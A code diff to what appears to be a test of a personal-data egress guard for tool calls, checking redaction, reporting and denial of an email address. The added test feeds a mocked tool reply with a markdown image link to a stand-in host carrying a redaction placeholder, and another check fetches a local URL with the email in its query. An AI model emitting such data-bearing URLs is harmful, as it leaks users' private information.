@@ -404,7 +404,7 @@ def tools_with_egress():
             Modern.asked.clear()
             result = run("mcp.modern.greet", {"who": f"Ann <{MAIL}>"})
             return result, json.dumps([[*map(str, one[0].items()), one[1]] for one in Modern.asked])
-        for mode, arrives in (("off", MAIL), ("report", MAIL), ("redact", "[[mail-1]]"), ("deny", None)):
+        for mode, arrives in (("off", MAIL), ("report", MAIL), ("redact", "[[mail-1-"), ("deny", None)):
             w.mode(mode)
             result, arrived = greet()
             if arrives is None:
@@ -419,6 +419,13 @@ def tools_with_egress():
             expected = None if mode == "off" else {"mode": mode, "found": {"mail": 1}}
             assert record.get("pii") == expected, (mode, record)
         assert record["why"] == "egress.pii", record
+
+        # What was sent and comes back has its words again; what a stranger guesses has none.
+        w.mode("redact")
+        Modern.says = staticmethod(lambda inputs: f"for {inputs.get('who')}, ![x](http://x.test/[[mail-1]])")
+        said = json.dumps(greet()[0]["output"])
+        Modern.says = staticmethod(lambda inputs: "hello")
+        assert f"for Ann <{MAIL}>, ![x](http://x.test/[[mail-1]])" in said, said
         # Nothing of this machine may be fetched: what counts is whether that is why.
         for mode in ("report", "redact", "deny"):
             w.mode(mode)
@@ -431,7 +438,7 @@ def tools_with_egress():
             escaped = run("http_fetch", {"url": "http://127.0.0.1/?to=" + quote(MAIL)})
             # What stands in an address in code cannot be taken out of it.
             assert ("egress.pii" in escaped["error"]["detail"]) == (mode != "report"), (mode, escaped)
-        assert w.metric('soma_pii_egress_total{outcome="redacted",to="tool"}') == 2
+        assert w.metric('soma_pii_egress_total{outcome="redacted",to="tool"}') == 3
         # What stays here is nobody's egress.
         assert run("echo", {"text": MAIL})["status"] == "success"
         w.keeps_quiet()
